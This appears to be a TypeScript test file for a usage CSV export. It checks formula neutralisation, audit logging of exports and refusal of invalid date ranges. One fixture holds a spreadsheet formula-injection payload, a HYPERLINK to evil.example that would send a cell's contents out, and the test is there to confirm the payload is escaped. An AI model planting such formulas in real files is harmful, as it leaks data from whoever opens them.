import { beforeAll, expect, it } from "vitest";
import { parseUsageSearch } from "../../../app/contracts/usage-search.ts";
import { createAuditLog } from "../../audit/index.ts";
import { describeEachEngine } from "../../testing/db.ts";
import { deliverUsage, usageEnvelope } from "../../testing/timeline.ts";
import { exportUsageCsv } from "./pages.ts";

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
const finance = { id: "stf_fin", email: "finance@demo.local", role: "finance" };

async function text(stream: AsyncIterable<unknown>): Promise<string> {
  let out = "";
  for await (const chunk of stream) out += String(chunk);
  return out;
}

describeEachEngine("usage export", (ctx) => {
  beforeAll(async () => {
    const ts = new Date(Date.now() - 86_400_000).toISOString();
    const response = await deliverUsage(
      ctx.database,
      usageEnvelope({ usageEventId: "ue_evil", customerId: EVIL, featureCode: "api_calls", value: 3, ts }),
    );
    expect(response.status).toBe(200);
  });

  it("neutralizes an external id that a spreadsheet would run as a formula", async () => {
    const exported = await exportUsageCsv(finance, parseUsageSearch(new URLSearchParams("range=7d")), {
      database: ctx.database,
    });
    if (exported.error !== null) throw new Error(exported.error);
    const csv = await text(exported.csv);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it("records who exported which filters before the rows stream", async () => {
    const search = parseUsageSearch(new URLSearchParams("range=30d&feature=api_calls"));
    const exported = await exportUsageCsv(finance, search, { database: ctx.database });
    expect(exported.error).toBeNull();
    const page = await createAuditLog(ctx.db).list({ action: "usage.export" }, { pageSize: 10, page: 1 });
    expect(page.rows[0]).toMatchObject({
      actor: { id: "stf_fin", email: "finance@demo.local" },
      role: "finance",
      action: "usage.export",
      status: "succeeded",
      params: { filters: { range: "30d", feature: ["api_calls"] } },
    });
  });

  it("a range that cannot be resolved is refused and not audited as an export", async () => {
    const search = parseUsageSearch(new URLSearchParams("range=custom&from=2026-02-10&to=2026-01-01"));
    const before = await createAuditLog(ctx.db).list({ action: "usage.export" }, { pageSize: 10, page: 1 });
    const exported = await exportUsageCsv(finance, search, { database: ctx.database });
    expect(exported.error).toBeTruthy();
    const after = await createAuditLog(ctx.db).list({ action: "usage.export" }, { pageSize: 10, page: 1 });
    expect(after.total).toBe(before.total);
  });
});
